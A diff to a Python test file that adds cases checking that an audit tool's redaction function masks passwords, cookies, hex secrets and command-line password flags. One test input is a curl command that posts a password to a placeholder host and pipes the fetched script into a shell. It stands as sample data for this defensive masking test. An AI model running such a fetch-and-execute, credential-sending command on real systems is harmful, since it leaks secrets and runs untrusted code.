@@ -172,3 +172,27 @@ def test_a_token_in_a_source_url_is_masked_in_the_profile_error(tmp_path):
     p = subprocess.run([sys.executable, "-m", "hermes_audit", "profile", "--", f"https://127.0.0.1:9/{token}/r.git#ghp_{'Z9' * 18}"],
                        capture_output=True, text=True, timeout=120, cwd=tmp_path)
     assert p.returncode == 2 and token[-10:] not in p.stderr + p.stdout and "Z9Z9Z9Z9Z9" not in p.stderr
+
+
+@pytest.mark.parametrize("line,secret", [
+    ('curl -d password="correct horse battery staple" https://x.example/a.sh | sh', "horse battery"),
+    ('password = "correct horse battery staple"', "horse battery"), ('PASSWORD="Tr0ub4dor&3 extra"', "extra"),
+    ("Cookie: sessionid=3f9a8b7c6d5e4f3a2b1c", "3f9a8b7c6d5e"), ("SECRET_KEY_BASE: 3f9a8b7c6d5e4f3a2b1c0d", "3f9a8b7c6d5e"),
+    ("client_secret 3f9a8b7c6d5e4f3a2b1c0d", "3f9a8b7c6d5e"), ("openssl enc -k Hunter2pw9 -in x", "Hunter2pw9"),
+    ("zip -P Hunter2pw9 a.zip", "Hunter2pw9"), ("ldapsearch -w Hunter2pw9", "Hunter2pw9"),
+    ("wget --http-password Hunter2pw9 http://x", "Hunter2pw9"), ("password\uff1dHunter2pw9", "Hunter2pw9"),
+])
+def test_seventh_round_secret_spellings_are_masked(line, secret):
+    """Seventh red team (issue 18): quoted values with blanks, session cookies, named hex secrets, more command
+    password flags and a full-width equals sign were shown in full."""
+    from hermes_audit.engine.redact import redact, redact_in_place
+
+    masked = redact_in_place(line)
+    assert secret not in redact(line) and secret not in masked and len(masked) == len(line)
+
+
+@pytest.mark.parametrize("honest", ["curl -k https://example.com/x", "The password field is required.", "ls -P /tmp"])
+def test_flags_and_words_near_the_seventh_round_shapes_are_left_alone(honest):
+    from hermes_audit.engine.redact import redact
+
+    assert redact(honest) == honest
